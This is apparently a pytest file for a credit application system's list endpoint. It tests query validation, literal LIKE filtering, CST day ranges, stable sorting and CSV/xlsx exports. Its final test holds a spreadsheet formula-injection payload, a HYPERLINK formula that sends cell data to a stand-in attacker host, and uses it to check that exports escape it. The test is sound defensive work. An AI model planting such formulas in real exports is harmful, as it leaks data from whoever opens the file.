"""The list component's server side: query-string validation (every bad parameter named),
filters (a substring with LIKE wildcards taken literally; CST days, not UTC days), sorting with
a stable order across pages, the filtered total, and exports (CSV with a BOM, xlsx numbers) of
the same query — over a small table whose expected pages are worked out by hand."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from sqlalchemy import BigInteger, Column, Integer, MetaData, String, Table, create_engine, select
from starlette.requests import Request

from creditfactory.adapters.storage.listing import fetch_all, fetch_page
from creditfactory.adapters.storage.types import UTCDateTime
from creditfactory.adapters.web.listing import Column as ListColumn
from creditfactory.adapters.web.listing import ListView, _csv, _xlsx, parse_query
from creditfactory.kernel.errors import ValidationError

META = MetaData()
ROWS = Table("rows", META, Column("id", String(8), primary_key=True), Column("name", String(40)),
             Column("amount", BigInteger), Column("n", Integer), Column("status", String(12)),
             Column("at", UTCDateTime))  # fmt: skip
DATA = [
    ("r1", "厦门_贸易", 30000000, 3, "open", datetime(2026, 12, 6, 15, 59, tzinfo=UTC)),  # 12-06 23:59 CST
    ("r2", "福州100%餐饮", 12550, 1, "open", datetime(2026, 12, 6, 16, 0, tzinfo=UTC)),  # 12-07 00:00 CST
    ("r3", "厦门海峡", 8600000, 2, "closed", datetime(2026, 12, 7, 15, 59, tzinfo=UTC)),  # 12-07 23:59 CST
    ("r4", "泉州鞋业", 8600000, 4, "open", datetime(2026, 12, 7, 16, 0, tzinfo=UTC)),  # 12-08 00:00 CST
]  # fmt: skip
VIEW = ListView("rows", (
    ListColumn("id", "Application", kind="id", filter="contains"),
    ListColumn("name", "Applicant", filter="contains"),
    ListColumn("amount", "Requested amount", kind="money_minor"),
    ListColumn("n", "Term (months)", kind="number", sortable=False),
    ListColumn("status", "Status", filter="equals", choices=("open", "closed")),
    ListColumn("at", "Submitted", kind="time", filter="date_range"),
), default_sort="-at")  # fmt: skip


@pytest.fixture(scope="module")
def db() -> Any:
    engine = create_engine("sqlite://")
    META.create_all(engine)
    with engine.begin() as conn:
        conn.execute(ROWS.insert(), [dict(zip(("id", "name", "amount", "n", "status", "at"), r,
                                              strict=True)) for r in DATA])  # fmt: skip
    with engine.connect() as conn:
        yield conn


def _request(query: str) -> Request:
    return Request({"type": "http", "method": "GET", "path": "/", "headers": [],
                    "query_string": quote(query, safe="=&%").encode()})  # fmt: skip


def _page(db: Any, query: str) -> tuple[list[str], int]:
    parsed, _ = parse_query(VIEW, _request(query))
    found = fetch_page(db, select(*ROWS.c), parsed)
    return [r["id"] for r in found.rows], found.total


@pytest.mark.parametrize(
    ("query", "field"),
    [("per_page=7", "per_page"), ("per_page=x", "per_page"), ("page=0", "page"),
     ("page=-1", "page"), ("sort=n", "sort"), ("sort=nope", "sort"), ("format=pdf", "format"),
     ("status=paid", "status"), ("at_from=2026-02-30", "at_from"), ("at=2026-01-01", "at"),
     ("amount=5", "amount"), ("bogus=1", "bogus"), ("page=1&page=2", "page"),
     ("name=" + "x" * 201, "name"),
     # each of these was a 500 (an OFFSET or a time out of range), not a 422
     ("page=" + "9" * 20, "page"), ("page=١", "page"), ("at_from=0001-01-01", "at_from"),
     ("at_to=9999-12-31", "at_to")],
)  # fmt: skip
def test_every_bad_parameter_is_named(query: str, field: str) -> None:
    with pytest.raises(ValidationError) as refused:
        parse_query(VIEW, _request(query))
    assert refused.value.field == field


def test_sort_page_and_total(db: Any) -> None:
    assert _page(db, "") == (["r4", "r3", "r2", "r1"], 4)  # default: newest first
    assert _page(db, "sort=amount&per_page=10") == (["r2", "r3", "r4", "r1"], 4)  # ties by id
    assert _page(db, "sort=-amount&per_page=10") == (["r1", "r3", "r4", "r2"], 4)
    assert _page(db, "sort=amount&per_page=10&page=2") == ([], 4)
    assert _page(db, "sort=id&page=1&per_page=10&lang=en") == (["r1", "r2", "r3", "r4"], 4)


def test_filters_take_wildcards_literally_and_days_in_cst(db: Any) -> None:
    assert _page(db, "name=_") == (["r1"], 1)  # "_" is a character here, not LIKE's any-one
    assert _page(db, "name=100%25") == (["r2"], 1)  # "100%"
    assert _page(db, "name=厦门&status=open") == (["r1"], 1)
    assert _page(db, "at_from=2026-12-07&at_to=2026-12-07") == (["r3", "r2"], 2)
    assert _page(db, "at_to=2026-12-06") == (["r1"], 1)


def test_exports_are_the_same_query_unpaged(db: Any) -> None:
    parsed, fmt = parse_query(VIEW, _request("status=open&sort=amount&per_page=10&format=csv"))
    assert fmt == "csv"
    rows = fetch_all(db, select(*ROWS.c), parsed, limit=100).rows
    text = _csv(VIEW, rows, "zh-CN")
    assert text.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert table[0] == ["申请", "申请人", "申请金额", "期限（月）", "状态", "提交时间 (CST)"]
    assert table[1] == ["r2", "福州100%餐饮", "125.50", "1", "open", "2026-12-07 00:00 CST"]
    assert [r[0] for r in table[1:]] == ["r2", "r4", "r1"]
    sheet = load_workbook(io.BytesIO(_xlsx(VIEW, rows, "en"))).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][2] == "Requested amount"
    assert [Decimal(str(v[2])) for v in values[1:]] == [Decimal("125.5"), Decimal("86000"),
                                                        Decimal("300000")]  # fmt: skip
    assert sheet.cell(row=2, column=3).number_format == "#,##0.00"


def test_an_export_over_the_limit_is_told_not_cut(db: Any) -> None:
    parsed, _ = parse_query(VIEW, _request(""))
    found = fetch_all(db, select(*ROWS.c), parsed, limit=3)
    assert found.total == 4  # limit + 1 fetched: the caller refuses (EXPORT_MAX_ROWS)


def test_export_cells_grade_uscc_and_date_in_the_pages_words() -> None:
    view = ListView("g", (ListColumn("grade", "Grade", kind="grade", sortable=False),
                          ListColumn("uscc", "Identifier", kind="uscc", sortable=False),
                          ListColumn("day", "Submitted", kind="date", sortable=False)), "grade")  # fmt: skip
    rows = [{"grade": "SPECIAL_MENTION", "uscc": "91350100M000100Y43",
             "day": datetime(2026, 12, 31, 16, 30, tzinfo=UTC)}]  # fmt: skip
    zh = list(csv.reader(io.StringIO(_csv(view, rows, "zh-CN").decode("utf-8-sig"))))
    en = list(csv.reader(io.StringIO(_csv(view, rows, "en").decode("utf-8-sig"))))
    assert zh[1] == ["关注", "913501********0Y43", "2027-01-01"]  # the CST date
    assert en[0] == ["Grade", "Identifier", "Submitted"] and en[1][0] == "Special mention"


def test_a_name_that_looks_like_a_formula_is_exported_as_text() -> None:
    """Before: "=HYPERLINK(…)" as an applicant's name reached the CSV bare and became an xlsx
    formula cell — Excel would run it when the officer opened the export."""
    view = ListView("f", (ListColumn("name", "Applicant", sortable=False),
                          ListColumn("amount", "Requested amount", kind="money_minor",
                                     sortable=False)), "name")  # fmt: skip
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [{"name": evil, "amount": -150}, {"name": "@SUM(1+1)", "amount": 100}]
    table = list(csv.reader(io.StringIO(_csv(view, rows, "en").decode("utf-8-sig"))))
    assert [r[0] for r in table[1:]] == ["'" + evil, "'@SUM(1+1)"]
    assert table[1][1] == "-1.50"  # a negative amount is a number, not touched
    sheet = load_workbook(io.BytesIO(_xlsx(view, rows, "en"))).active
    assert sheet is not None
    assert (sheet.cell(row=2, column=1).data_type, sheet.cell(row=2, column=1).value) == ("s", evil)
    assert sheet.cell(row=2, column=2).value == -1.5
